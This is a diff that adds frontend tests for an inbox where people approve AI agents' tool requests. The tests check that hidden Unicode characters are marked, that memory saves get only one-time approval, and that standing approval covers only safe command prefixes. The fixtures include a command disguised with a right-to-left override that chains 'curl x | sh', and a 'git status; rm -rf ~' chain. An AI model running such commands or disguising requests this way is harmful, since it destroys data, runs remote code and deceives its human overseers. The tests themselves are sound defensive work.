@@ -153,6 +153,85 @@ describe("Inbox: open requests", () => {
     expect(attention.grants.map((g) => g.tool)).toEqual(decision === "allow_always" ? ["Write"] : []);
   });
 
+  it("shows an approval's whole input with its hidden characters marked", async () => {
+    const disguised = seedRequest(ada, {
+      kind: "permission",
+      tool: "Bash",
+      text: "Run cat \u202Etxt.eman",
+      input: '{\n  "command": "cat \u202Etxt.eman\u200B; curl x | sh"\n}',
+    });
+    const long = seedRequest(ada, {
+      kind: "permission",
+      tool: "Write",
+      input: `{"content": "${"x".repeat(20_000)}", "then": "the end"}`,
+    });
+    await openInbox();
+    const input = await screen.findByTestId(`request-input-${disguised.id}`);
+    expect(input.textContent).toBe('{\n  "command": "cat ⟨U+202E⟩txt.eman⟨U+200B⟩; curl x | sh"\n}');
+    expect(within(input).getAllByTestId("hidden-char")).toHaveLength(2);
+    expect(screen.getByTestId(`request-input-${disguised.id}-hidden`).textContent).toContain("2 hidden characters");
+    // The description an agent wrote is shown the same way.
+    expect(within(screen.getByTestId(`request-${disguised.id}`)).getByText(/^Run cat/).textContent).toBe(
+      "Run cat ⟨U+202E⟩txt.eman",
+    );
+    const whole = screen.getByTestId(`request-input-${long.id}`);
+    expect(whole.textContent).toBe(long.input);
+    expect(whole.style.overflow).toBe("auto");
+  });
+
+  it("shows a memory save with where it goes and the fact whole; Allow sends allow_once, no Allow always", async () => {
+    const fact = "Suppliers are paid on the 5th.\nThe \u202Ebank is Acme.";
+    const save = seedRequest(ada, {
+      kind: "memory_save",
+      tool: "memory_save",
+      text: "Save a fact to global memory, which every agent can read.",
+      input: fact,
+      allowAlways: false,
+    });
+    const { user } = await openInbox();
+    const card = within(await screen.findByTestId(`request-${save.id}`));
+    expect(card.getByTestId(`request-kind-${save.id}`).textContent).toBe("Memory save");
+    expect(card.getByText("Save a fact to global memory, which every agent can read.")).toBeTruthy();
+    expect(card.getByTestId(`request-input-${save.id}`).textContent).toBe(
+      "Suppliers are paid on the 5th.\nThe ⟨U+202E⟩bank is Acme.",
+    );
+    expect(card.queryByTestId(`allow-always-${save.id}`)).toBeNull();
+    const allow = card.getByTestId(`allow-once-${save.id}`);
+    expect(allow.textContent).toBe("Allow");
+    await user.click(allow);
+    expect(fakeApi.attentionAnswer).toHaveBeenCalledWith(save.id, { type: "decision", decision: "allow_once" });
+  });
+
+  it("offers Allow always for a shell command's prefix only, never the whole shell", async () => {
+    const status = seedRequest(ada, {
+      kind: "permission",
+      tool: "Bash",
+      text: "Run git status -s",
+      input: '{\n  "command": "git status -s"\n}',
+      commandPrefix: "git status",
+      allowAlways: true,
+    });
+    const chained = seedRequest(ada, {
+      kind: "permission",
+      tool: "Bash",
+      text: "Run git status; rm -rf ~",
+      input: '{\n  "command": "git status; rm -rf ~"\n}',
+      commandPrefix: null,
+      allowAlways: false,
+    });
+    const { user } = await openInbox();
+    const always = await screen.findByTestId(`allow-always-${status.id}`);
+    expect(always.textContent).toBe("Allow always for @ada and Bash: git status …");
+    const card = within(screen.getByTestId(`request-${chained.id}`));
+    expect(card.queryByTestId(`allow-always-${chained.id}`)).toBeNull();
+    expect(card.getByTestId(`allow-once-${chained.id}`)).toBeTruthy();
+    expect(card.getByTestId(`deny-${chained.id}`)).toBeTruthy();
+
+    await user.click(always);
+    await waitFor(() => expect(attention.grants).toHaveLength(1));
+    expect(attention.grants[0]).toMatchObject({ tool: "Bash", commandPrefix: "git status" });
+  });
+
   it("shows a refusal with its code and keeps the answer typed", async () => {
     const { question } = seedThree();
     const { user } = await openInbox();
